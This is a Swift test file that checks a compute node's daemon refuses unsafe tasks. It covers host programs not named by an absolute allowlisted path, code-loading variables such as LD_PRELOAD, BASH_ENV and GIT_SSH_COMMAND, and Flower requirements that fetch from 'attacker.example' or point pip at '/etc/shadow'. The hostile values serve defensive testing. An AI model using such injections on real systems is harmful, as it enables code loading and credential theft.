import FEMCore
import FEMSystem
import Foundation
import Testing

/// What a node refuses to run, sent through a real daemon and a real TLS broker: nothing runs by default, host
/// programs only by an absolute allowlisted path, no plan variable that loads other code (for every launcher),
/// Flower clients only towards listed SuperLinks with pinned requirements. Each refusal says why.
@Suite(.serialized)
struct ContainmentTests {
    func run(_ op: Operator, _ tasks: [[String: JSONValue]], timeout: Double = 30) throws -> [String: TaskEvent] {
        for t in tasks { try op.submit(t) }
        try op.waitForFinal(tasks.map(Tasks.id), timeout: timeout)
        var out: [String: TaskEvent] = [:]
        for t in tasks { out[Tasks.id(t)] = try #require(op.finalState(of: Tasks.id(t))) }
        return out
    }

    static func withEnv(_ t: [String: JSONValue], _ env: [String: String]) -> [String: JSONValue] {
        var t = t
        guard case .object(var plan)? = t["plan"] else { return t }
        plan["env"] = .object(env.mapValues(JSONValue.string))
        t["plan"] = .object(plan)
        return t
    }

    func neverRan(_ op: Operator, _ t: [String: JSONValue]) -> Bool {
        !op.events(of: Tasks.id(t)).contains { $0.state == .running || $0.state == .stagingIn }
    }

    @Test func theDefaultConfigurationRunsNoProcessTask() throws {
        let node = try TestNode("contain-default")  // no [launchers] at all
        try node.start()
        let op = try Operator(node: node)
        let t = Tasks.task(["/bin/sh", "-c", "echo should never run"])
        let final = try #require(try run(op, [t])[Tasks.id(t)])
        #expect(final.state == .declined)
        #expect(final.detail.message == "launcher \"process\" is not enabled on this node (launchers.enabled: none)")
        #expect(neverRan(op, t))
    }

    @Test func hostLaunchersWithoutAnAllowlistDoNotStart() throws {
        let node = try TestNode("contain-noallow", extra: """
            [launchers]
            enabled = ["process"]
            """)
        let check = try node.run(["check"])
        #expect(check.status != 0)
        #expect(check.output.contains("launchers.process.allowed_executables: must list the absolute paths of the "
                                      + "programs host-process tasks may run"), "\(check.output)")
        let daemon = try node.run(["daemon"])
        #expect(daemon.status != 0 && daemon.output.contains("launchers.process.allowed_executables"), "\(daemon.output)")

        let relative = try TestNode("contain-relallow", extra: """
            [launchers]
            enabled = ["process", "flower"]
            [launchers.process]
            allowed_executables = ["/bin/sh", "python3"]
            [launchers.flower]
            python = "python3"
            """)
        let r = try relative.run(["check"])
        #expect(r.status != 0)
        #expect(r.output.contains("launchers.process.allowed_executables: \"python3\" is not an absolute path"), "\(r.output)")
        #expect(r.output.contains("launchers.flower.python: \"python3\" is not an absolute path"), "\(r.output)")

        let listed = try TestNode("contain-listed", extra: """
            [launchers]
            enabled = ["process"]
            [launchers.process]
            allowed_executables = ["/bin/sh", "/opt/fem-no-such-tool"]
            """)
        let ok = try listed.run(["check"])
        #expect(ok.status == 0, "\(ok.output)")
        #expect(ok.output.contains("ok    process: tasks may run /bin/sh"), "\(ok.output)")
        #expect(ok.output.contains("warn  process: launchers.process.allowed_executables lists /opt/fem-no-such-tool, "
                                   + "which is not an executable file on this host"), "\(ok.output)")
    }

    @Test func hostProgramsOnlyByAbsolutePathAndNoLoaderVariables() throws {
        let node = try TestNode("contain-proc", extra: TestNode.hostProcesses)
        try node.start()
        let op = try Operator(node: node)
        let marker = "\(node.dir)/ran"
        let relative = Tasks.task(["usr/bin/python3", "-c", "open('\(marker)-relative','w')"])
        let bare = Tasks.task(["python3", "-c", "open('\(marker)-bare','w')"])
        let unlisted = Tasks.task(["/usr/bin/perl", "-e", "1"])
        let script = "touch \(marker)-$0"
        let preload = Self.withEnv(Tasks.task(["/bin/sh", "-c", script, "preload"]), ["LD_PRELOAD": "/tmp/evil.so"])
        let pythonPath = Self.withEnv(Tasks.task(["/usr/bin/python3", "-c", "1"]), ["PYTHONPATH": "%%src%%"])
        let bashEnv = Self.withEnv(Tasks.task(["/bin/sh", "-c", script, "bashenv"]), ["BASH_ENV": "%%src%%/x.sh"])
        let path = Self.withEnv(Tasks.task(["/bin/sh", "-c", script, "path"]), ["PATH": "%%src%%:/usr/bin"])
        let fine = Self.withEnv(Tasks.task(["/bin/sh", "-c", "echo \"$GREETING\""]),
                                ["GREETING": "hello", "PYTHONUNBUFFERED": "1"])
        let finals = try run(op, [relative, bare, unlisted, preload, pythonPath, bashEnv, path, fine])
        let expected: [([String: JSONValue], String)] = [
            (relative, "command.base[0]: \"usr/bin/python3\" is a relative path (it would be looked up inside the "
                + "task's src/); this node runs only programs named by an absolute path listed in "
                + "launchers.process.allowed_executables"),
            (bare, "command.base[0]: \"python3\" is a bare program name (it would be looked up on a PATH); this node "
                + "runs only programs named by an absolute path listed in launchers.process.allowed_executables"),
            (preload, "env.LD_PRELOAD: this node never passes LD_* to a task (it is read by the dynamic linker or libc "
                + "and can load code into any program)"),
            (pythonPath, "env.PYTHONPATH: this node never passes PYTHON* to a task (it is read by an interpreter and "
                + "can load or run code before the tool's own)"),
            (bashEnv, "env.BASH_ENV: this node never passes BASH_ENV to a task (it is read by shells and can run "
                + "commands or change which program runs)"),
            (path, "env.PATH: this node never passes PATH to a task (it is read by shells and can run commands or "
                + "change which program runs)"),
        ]
        for (t, message) in expected {
            let f = try #require(finals[Tasks.id(t)])
            #expect(f.state == .declined && f.detail.message == message, "\(f.state) \(f.detail.message ?? "")")
            #expect(neverRan(op, t))
        }
        let u = try #require(finals[Tasks.id(unlisted)])
        #expect(u.state == .declined && u.detail.message?.hasSuffix(
            "is not in this node's launchers.process.allowed_executables") == true, "\(u.detail.message ?? "")")
        #expect(finals[Tasks.id(fine)]?.state == .completed, "an ordinary variable passes")
        let stdout = try String(contentsOfFile: "\(node.dir)/var/sandboxes/\(Tasks.id(fine))/logs/stdout.log",
                                encoding: .utf8)
        #expect(stdout == "hello\n")
        let ran = try FileManager.default.contentsOfDirectory(atPath: node.dir).filter { $0.hasPrefix("ran") }
        #expect(ran.isEmpty, "no refused task ran: \(ran)")
    }

    @Test func aNodeAllowlistNarrowsThePlansEnvironment() throws {
        let node = try TestNode("contain-envlist", extra: TestNode.hostProcesses.replacingOccurrences(
            of: "enabled = [\"process\"]", with: "enabled = [\"process\"]\nenv_allowed = [\"OMP_NUM_THREADS\", \"TOOL_*\"]"))
        try node.start()
        let op = try Operator(node: node)
        let ok = Self.withEnv(Tasks.task(["/bin/true"]), ["OMP_NUM_THREADS": "2", "TOOL_MODE": "fast"])
        let other = Self.withEnv(Tasks.task(["/bin/true"]), ["GREETING": "hi"])
        let finals = try run(op, [ok, other])
        #expect(finals[Tasks.id(ok)]?.state == .completed)
        #expect(finals[Tasks.id(other)]?.state == .declined)
        #expect(finals[Tasks.id(other)]?.detail.message
                == "env.GREETING: is not in this node's launchers.env_allowed (OMP_NUM_THREADS, TOOL_*)")
    }

    @Test(arguments: ContainerEngine.allCases)
    func containersGetTheSameEnvironmentRules(_ kind: ContainerEngine) throws {
        _ = try kind.up()
        let data = try TestEnv.scratch("contain-dataset")
        let node = try TestNode("contain-docker-\(kind)", extra: """
            [launchers]
            enabled = ["docker"]
            [launchers.docker]
            allowed_images = ["fem-test/*"]
            \(try kind.socketConfig)
            [datasets.demo]
            path = "\(data)"
            """)
        try node.start()
        let op = try Operator(node: node)
        let preload = Self.withEnv(DockerLauncherTests.task("echo hi"), ["LD_PRELOAD": "/fem/src/evil.so"])
        let gitSSH = Self.withEnv(DockerLauncherTests.task("echo hi"), ["GIT_SSH_COMMAND": "sh /fem/src/x"])
        let fine = Self.withEnv(DockerLauncherTests.task("echo \"$GREETING\""), ["GREETING": "from the plan"])
        let finals = try run(op, [preload, gitSSH, fine], timeout: 120)
        #expect(finals[Tasks.id(preload)]?.state == .declined)
        #expect(finals[Tasks.id(preload)]?.detail.message?.hasPrefix("env.LD_PRELOAD: this node never passes LD_*")
                == true, "\(String(describing: finals[Tasks.id(preload)]?.detail.message))")
        #expect(finals[Tasks.id(gitSSH)]?.state == .declined)
        #expect(finals[Tasks.id(gitSSH)]?.detail.message?.hasPrefix("env.GIT_SSH_COMMAND: this node never passes GIT_*")
                == true)
        for t in [preload, gitSSH] { #expect(neverRan(op, t)) }
        #expect(finals[Tasks.id(fine)]?.state == .completed, "\(String(describing: finals[Tasks.id(fine)]?.detail))")
        let stdout = try String(contentsOfFile: "\(node.dir)/var/sandboxes/\(Tasks.id(fine))/logs/stdout.log",
                                encoding: .utf8)
        #expect(stdout == "from the plan\n")
    }

    // MARK: - Flower

    func flowerNode(_ name: String) throws -> TestNode {
        try TestNode(name, extra: """
            [launchers]
            enabled = ["flower"]
            [launchers.flower]
            python = "/usr/bin/python3"
            venv_dir = "\(try TestEnv.scratch("contain-venvs"))"
            allowed_superlinks = ["127.0.0.1:19991", "superlink.example.org:9092"]
            connect_attempts = 1
            unreachable_seconds = 5
            """)
    }

    func flowerTask(server: String, requirements: [String]) -> [String: JSONValue] {
        ["schema_version": 1, "task_id": .string(UUID().uuidString.lowercased()), "execution_id": "exec-contain",
         "plan": ["schema_version": 1, "id": "fem-contain", "version": "1.0", "launcher": "flower",
                  "command": ["base": ["flower"]], "timeout_seconds": 120,
                  "flower": ["mode": "supernode", "requirements": .array(requirements.map(JSONValue.string))]],
         "flower": ["server": .string(server)]]
    }

    @Test func flowerTasksOnlyTowardsListedSuperLinksWithPinnedRequirements() throws {
        let node = try flowerNode("contain-flower")
        try node.start()
        let op = try Operator(node: node)
        let unlisted = flowerTask(server: "10.1.2.3:9092", requirements: ["flwr==1.41.0"])
        let otherPort = flowerTask(server: "superlink.example.org:9093", requirements: ["flwr==1.41.0"])
        let url = flowerTask(server: "127.0.0.1:19991", requirements: ["x @ https://attacker.example/x.tar.gz"])
        let option = flowerTask(server: "127.0.0.1:19991", requirements: ["-r /etc/shadow"])
        let optionSplit = flowerTask(server: "127.0.0.1:19991", requirements: ["flwr==1.41.0", "-r", "/etc/shadow"])
        let path = flowerTask(server: "127.0.0.1:19991", requirements: ["/etc/shadow"])
        let unpinned = flowerTask(server: "127.0.0.1:19991", requirements: ["numpy"])
        let finals = try run(op, [unlisted, otherPort, url, option, optionSplit, path, unpinned])
        let tail = "; only name==version entries are allowed, optionally followed by --hash=sha256:<hex> (e.g. "
            + "\"numpy==2.1.3\")"
        let expected: [([String: JSONValue], String)] = [
            (unlisted, "flower.server: \"10.1.2.3:9092\" is not in this node's launchers.flower.allowed_superlinks"),
            (otherPort, "flower.server: \"superlink.example.org:9093\" is not in this node's "
                + "launchers.flower.allowed_superlinks"),
            (url, "flower.requirements[0]: \"x @ https://attacker.example/x.tar.gz\" is a URL or a direct reference"
                + tail),
            (option, "flower.requirements[0]: \"-r /etc/shadow\" is a pip option" + tail),
            (optionSplit, "flower.requirements[1]: \"-r\" is a pip option" + tail),
            (path, "flower.requirements[0]: \"/etc/shadow\" is a path" + tail),
            (unpinned, "flower.requirements[0]: \"numpy\" is not a pinned name==version" + tail),
        ]
        for (t, message) in expected {
            let f = try #require(finals[Tasks.id(t)])
            #expect(f.state == .declined && f.detail.message == message, "\(f.state) \(f.detail.message ?? "")")
            #expect(neverRan(op, t))
        }
        #expect(!op.seen.contains { $0.detail.message?.contains("root:") == true }, "nothing of /etc/shadow in events")
    }

    @Test func anEmptySuperLinkListDeclinesEveryFlowerTask() throws {
        let node = try TestNode("contain-flower-none", extra: """
            [launchers]
            enabled = ["flower"]
            """)
        try node.start()
        let op = try Operator(node: node)
        let t = flowerTask(server: "127.0.0.1:19991", requirements: ["flwr==1.41.0"])
        let final = try #require(try run(op, [t])[Tasks.id(t)])
        #expect(final.state == .declined)
        #expect(final.detail.message == "flower.server: this node takes part in no Flower federation "
                + "(launchers.flower.allowed_superlinks is empty)")
    }

    /// pip's words stay in the task's log: they can quote whatever file pip was pointed at.
    @Test func aFailedInstallPointsAtTheLogAndQuotesNothingOfPip() throws {
        let node = try flowerNode("contain-pip")
        try node.start()
        let op = try Operator(node: node)
        let t = flowerTask(server: "127.0.0.1:19991", requirements: ["fem-no-such-package-4f1c==0.0.1"])
        let final = try #require(try run(op, [t], timeout: 180)[Tasks.id(t)])
        #expect(final.state == .failed && final.detail.failureClass == .stageInFailure, "\(final.detail)")
        #expect(final.detail.message == "installing fem-no-such-package-4f1c==0.0.1 failed (exited(1)); see the "
                + "task's log (logs/venv.log)", "\(final.detail.message ?? "")")
        let log = try String(contentsOfFile: "\(node.dir)/var/sandboxes/\(Tasks.id(t))/logs/venv.log", encoding: .utf8)
        #expect(log.contains("fem-no-such-package-4f1c"), "pip's own output is in the log: \(log)")
        #expect(log.contains("No matching distribution"), "\(log)")
        for e in op.events(of: Tasks.id(t)) {
            #expect(e.detail.message?.contains("No matching distribution") != true, "\(e.detail.message ?? "")")
        }
    }
}
